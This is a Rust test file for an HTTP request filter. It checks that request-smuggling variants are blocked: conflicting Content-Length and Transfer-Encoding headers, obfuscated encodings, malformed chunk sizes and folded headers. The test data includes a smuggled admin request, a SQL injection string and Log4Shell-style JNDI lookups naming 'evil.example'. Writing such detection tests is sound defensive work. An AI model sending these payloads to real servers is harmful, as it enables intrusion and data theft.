//! Messages that two readers frame differently, and targets and protocols in unusual forms: what the scorer makes of those
//! that the nginx of the lab refuses by itself. Those that it takes are played against it in `datapath/http_evasion.rs`.

use std::sync::{Arc, LazyLock};

use filter_score::{
    Disposition, Family, OpaqueKind, OwnedDecision, Policy, RuleSet, Scorer, Stream, Verdict, builtin_packs,
};

static RULES: LazyLock<Arc<RuleSet>> =
    LazyLock::new(|| Arc::new(RuleSet::compile(builtin_packs()).expect("the built-in packs compile")));

/// What a smuggler wants to be read as a request of its own.
const SMUGGLED: &str = "GET /admin HTTP/1.1\r\nHost: a\r\n\r\n";

/// Feeds a stream in segments of `size` bytes, up to the first that is not accepted.
fn score(stream: &mut Stream, bytes: &[u8], size: usize) -> (Disposition, Vec<OwnedDecision>) {
    let mut scorer = Scorer::new(Arc::clone(&RULES), Policy::default(), 1);
    let mut decisions = Vec::new();
    for segment in bytes.chunks(size) {
        let disposition = scorer.feed(stream, segment, |decision| decisions.push(decision.to_owned()));
        if disposition != Disposition::Accept {
            return (disposition, decisions);
        }
    }
    (Disposition::Accept, decisions)
}

/// The stream is blocked in any segmentation, for this rule among others.
fn blocked(bytes: &str, rule: u32) {
    for size in [1, 7, bytes.len()] {
        let (disposition, decisions) = score(&mut Stream::new(), bytes.as_bytes(), size);
        assert_eq!(disposition, Disposition::Block, "{bytes:?} by {size}");
        let rules: Vec<_> = decisions
            .iter()
            .flat_map(|decision| &decision.rules)
            .map(|hit| hit.id)
            .collect();
        assert!(rules.contains(&rule), "{bytes:?} by {size}: {rules:?}");
    }
}

/// As many requests as expected are read, and nothing is found in them.
fn clean(bytes: &str, requests: usize) {
    for size in [1, 7, bytes.len()] {
        let (disposition, decisions) = score(&mut Stream::new(), bytes.as_bytes(), size);
        assert_eq!(disposition, Disposition::Accept, "{bytes:?} by {size}");
        assert_eq!(decisions.len(), requests, "{bytes:?} by {size}");
        for decision in decisions {
            assert_eq!(
                decision.decision,
                Verdict::Allow,
                "{bytes:?}: {}",
                decision.explanation
            );
        }
    }
}

fn post(headers: &str, rest: &str) -> String {
    format!("POST /a HTTP/1.1\r\nHost: a\r\n{headers}\r\n{rest}")
}

/// A body in one chunk.
fn chunk(body: &str) -> String {
    format!("{:x}\r\n{body}\r\n0\r\n\r\n", body.len())
}

#[test]
fn length_beside_transfer_encoding() {
    let end = "0\r\n\r\n";
    let both = end.len() + SMUGGLED.len();
    for headers in [
        // CL.TE: who reads the length takes the smuggled request for the body.
        format!("Content-Length: {both}\r\nTransfer-Encoding: chunked\r\n"),
        // TE.CL: who reads the length finds it behind the first line of a chunk.
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n".to_owned(),
        "Transfer-Encoding: chunked\r\nContent-Length: 0\r\n".to_owned(),
    ] {
        blocked(&post(&headers, &format!("{end}{SMUGGLED}")), 900_330);
        blocked(&post(&headers, &chunk(SMUGGLED)), 900_330);
    }
    clean(&post("Transfer-Encoding: chunked\r\n", &chunk("q=a")), 1);
    clean(&post("Content-Length: 3\r\n", "q=a"), 1);
    clean(&post("Content-Length: 3\r\n", &format!("q=a{SMUGGLED}")), 2);
}

/// TE.TE: of the readers one sees chunks, and the other does not.
#[test]
fn obfuscated_transfer_encoding() {
    let table = [
        ("Transfer-Encoding: xchunked", 900_340),
        ("Transfer-Encoding: chunked-x", 900_340),
        ("Transfer-Encoding: \"chunked\"", 900_340),
        ("Transfer-Encoding: chunked;q=1", 900_340),
        ("Transfer-Encoding: identity, chunked", 900_340),
        ("Transfer-Encoding: chunked, identity", 900_340),
        ("Transfer-Encoding: chunked, chunked", 900_340),
        ("Transfer-Encoding: chunked,", 900_340),
        ("Transfer-Encoding: , chunked", 900_340),
        ("Transfer-Encoding:", 900_340),
        ("Transfer-Encoding: \u{b}chunked", 900_340),
        ("Transfer-Encoding: chun\u{e7}ked", 900_340),
        (
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            900_340,
        ),
        ("Transfer-Encoding: chunked\r\nTransfer-Encoding: x", 900_340),
        ("Transfer-Encoding: x\r\nTransfer-Encoding: chunked", 900_340),
        ("Transfer-Encoding : chunked", 900_250),
        ("Transfer-Encoding\t: chunked", 900_250),
        ("Transfer-Encoding\u{1}: chunked", 900_260),
        ("Transfer Encoding: chunked", 900_260),
        ("Transfer-Encoding:\r\n chunked", 900_340),
        ("X: y\r\n Transfer-Encoding: chunked", 900_240),
        ("X: y\rTransfer-Encoding: chunked", 900_210),
        ("Transfer-Encoding: chunked\0", 900_220),
    ];
    for (headers, rule) in table {
        for length in ["", "Content-Length: 5\r\n"] {
            let headers = format!("{headers}\r\n{length}");
            blocked(&post(&headers, &format!("0\r\n\r\n{SMUGGLED}")), rule);
        }
    }
    for value in ["chunked", "CHUNKED", "\tchunked \t"] {
        clean(&post(&format!("Transfer-Encoding:{value}\r\n"), &chunk("q=a")), 1);
    }
    let old = post("Transfer-Encoding: chunked\r\n", &chunk("q=a")).replace("HTTP/1.1", "HTTP/1.0");
    blocked(&old, 900_350);
}

#[test]
fn ambiguous_content_length() {
    let table = [
        ("4\r\nContent-Length: 5", 900_310),
        ("5\r\nContent-Length: 4", 900_310),
        ("4, 5", 900_300),
        ("4, 4", 900_300),
        ("+4", 900_300),
        ("-4", 900_300),
        ("0x4", 900_300),
        ("4.0", 900_300),
        ("4;", 900_300),
        ("4 4", 900_300),
        ("4_", 900_300),
        ("", 900_300),
        ("\u{b}4", 900_300),
        ("18446744073709551620", 900_300),
    ];
    for (value, rule) in table {
        let headers = format!("Content-Length: {value}\r\n");
        blocked(&post(&headers, &format!("q=ab{SMUGGLED}")), rule);
    }
    for value in ["4", " 4 ", "\t4", "04"] {
        let headers = format!("Content-Length:{value}\r\n");
        clean(&post(&headers, &format!("q=ab{SMUGGLED}")), 2);
    }
}

/// The same length twice says nothing else than once: odd, but no attack by itself.
#[test]
fn the_same_length_twice() {
    let twice = post(
        "Content-Length: 4\r\nContent-Length: 4\r\n",
        &format!("q=ab{SMUGGLED}"),
    );
    let (disposition, decisions) = score(&mut Stream::new(), twice.as_bytes(), twice.len());
    assert_eq!((disposition, decisions.len()), (Disposition::Accept, 2));
    assert_eq!(decisions[0].decision, Verdict::Suspicious);
    let rules: Vec<_> = decisions[0].rules.iter().map(|hit| hit.id).collect();
    assert_eq!(rules, [900_320]);
    let attack = "GET /a?id=1'+union+select+password+from+users-- HTTP/1.1\r\nHost: a\r\n\r\n";
    blocked(&twice.replace(SMUGGLED, attack), 900_320);
}

#[test]
fn sizes_of_chunks_that_readers_take_differently() {
    let head = "Transfer-Encoding: chunked\r\n";
    for size in [
        // Beyond 64 bits, of which some readers keep the lower ones.
        "10000000000000003",
        "ffffffffffffffff",
        "0x3",
        "+3",
        "-3",
        " 3",
        "3_",
        "3\rX",
        "3;a=\"\nb\"",
        "3;a\0",
        "",
        "g",
    ] {
        blocked(
            &post(head, &format!("{size}\r\nq=a\r\n0\r\n\r\n{SMUGGLED}")),
            900_360,
        );
    }
    for end in ["", "XX", "\r\r\n", "\n\r\n"] {
        blocked(&post(head, &format!("3\r\nq=a{end}0\r\n\r\n{SMUGGLED}")), 900_360);
    }
    clean(&post(head, &format!("003\r\nq=a\r\n000\r\n\r\n{SMUGGLED}")), 2);
}

#[test]
fn lines_that_are_no_header() {
    let table = [
        ("X: a\r\n b", 900_240),
        ("X: a\r\n\tb", 900_240),
        ("X : a", 900_250),
        ("X a", 900_260),
        (": a", 900_260),
        ("X: a\rY: b", 900_210),
        ("X: a\0b", 900_220),
        ("Host: b", 900_280),
    ];
    for (line, rule) in table {
        blocked(&post(&format!("{line}\r\n"), ""), rule);
    }
    blocked(
        &format!("GET /a HTTP/1.1\r\n X: a\r\nHost: a\r\n\r\n{SMUGGLED}"),
        900_240,
    );
    clean(&post("X:a\r\nY:\r\nZ: \t a b\r\n", ""), 1);
}

#[test]
fn request_lines_that_servers_refuse() {
    let attack = "/a?id=1'+union+select+password+from+users--";
    for line in [
        format!("CONNECT {attack} HTTP/1.1"),
        format!("GET http://user:pass@a{attack} HTTP/1.1"),
        format!("GET http://{attack} HTTP/1.1"),
        format!("GET {attack} HTTP/2.0"),
        format!("GET {attack} HTTP/0.9"),
        format!("GET {attack} http/1.1"),
        format!("GET {} HTTP/1.1", attack.replace('+', " ")),
        format!("GET a:80{attack} HTTP/1.1"),
        format!("get {attack} HTTP/1.1"),
        format!("G_T {attack} HTTP/1.1"),
        "GET ${jndi:ldap://evil.example/a} HTTP/1.1".to_owned(),
        "GET http://${jndi:ldap:x}/ HTTP/1.1".to_owned(),
        "GET http://a:80${jndi:ldap:x}?b HTTP/1.1".to_owned(),
        "CONNECT ${jndi:ldap://evil.example/a}:443 HTTP/1.1".to_owned(),
    ] {
        let bytes = format!("{line}\r\nHost: a\r\n\r\n");
        for size in [1, bytes.len()] {
            let (disposition, decisions) = score(&mut Stream::new(), bytes.as_bytes(), size);
            assert_eq!(disposition, Disposition::Block, "{bytes:?} by {size}");
            let categories = &decisions[0].categories;
            assert!(
                categories.iter().any(|family| *family != Family::Protocol),
                "{bytes:?}: {categories:?}"
            );
        }
    }
    clean("GET http://a/b HTTP/1.1\r\nHost: a\r\n\r\n", 1);
    clean("GET http://a.example:8080/b?c HTTP/1.1\r\nHost: a\r\n\r\n", 1);
    clean("GET http://[2001:db8::1]:8080/b HTTP/1.1\r\nHost: a\r\n\r\n", 1);
    clean("OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n", 1);
    blocked("GET\t/a\tHTTP/1.1\r\nHost: a\r\n\r\n", 900_100);
    blocked(" GET /a HTTP/1.1\r\nHost: a\r\n\r\n", 900_100);
}

/// Which methods a service takes is its policy's matter; this one is not among the usual.
#[test]
fn connect_is_known_by_its_method() {
    let connect = b"CONNECT a.example:443 HTTP/1.1\r\nHost: a\r\n\r\n";
    let (disposition, decisions) = score(&mut Stream::new(), connect, 8);
    assert_eq!(disposition, Disposition::Accept);
    assert_eq!(decisions[0].decision, Verdict::Suspicious);
    let rules: Vec<_> = decisions[0].rules.iter().map(|hit| hit.id).collect();
    assert_eq!(rules, [900_430]);
}

const UPGRADE: &str = "GET /ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n";

/// A server that did not upgrade goes on reading requests, and passes over what the scorer must not take for a tunnel then.
#[test]
fn what_a_server_passes_over_is_no_tunnel() {
    let attack = "GET /a?id=1'+union+select+password+from+users-- HTTP/1.1\r\nHost: a\r\n\r\n";
    let lines = "\r\n".repeat(20);
    let feeds = "\n".repeat(20);
    // Refused, and the connection kept.
    let long = format!("{} /a HTTP/1.1\r\nHost: a\r\n\r\n", "G".repeat(33));
    for between in ["", "\r\n", "\r", " ", "\t", "(", &lines, &feeds, &long] {
        for first in [UPGRADE, "CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\n"] {
            let bytes = format!("{first}{between}{attack}");
            for size in [1, 7, bytes.len()] {
                let (disposition, _) = score(&mut Stream::new(), bytes.as_bytes(), size);
                assert_eq!(disposition, Disposition::Block, "{between:?} by {size}");
            }
        }
    }
}

#[test]
fn what_no_server_passes_over_is_a_tunnel() {
    let frames: &[&[u8]] = &[
        b"\x81\x85\x01\x02\x03\x04hello",
        b"\x02\xfe\x01\x02",
        b"\x89\x80\0\0\0\0",
        b"\x16\x03\x01\x02\0",
        b"A\x80",
        b"\0",
    ];
    for frame in frames {
        for size in [1, 64] {
            let mut stream = Stream::new();
            assert_eq!(
                score(&mut stream, UPGRADE.as_bytes(), size).0,
                Disposition::Accept
            );
            let (disposition, _) = score(&mut stream, frame, size);
            assert_eq!(
                disposition,
                Disposition::Opaque(OpaqueKind::Upgraded),
                "{}",
                frame.escape_ascii()
            );
        }
    }
}
